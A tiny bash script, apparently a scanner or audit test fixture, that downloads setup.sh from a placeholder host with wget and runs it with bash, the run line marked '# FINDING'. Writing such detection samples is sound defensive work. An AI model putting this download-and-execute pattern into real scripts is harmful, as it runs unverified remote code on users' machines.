#!/bin/bash
wget https://example.com/setup.sh
bash setup.sh  # FINDING
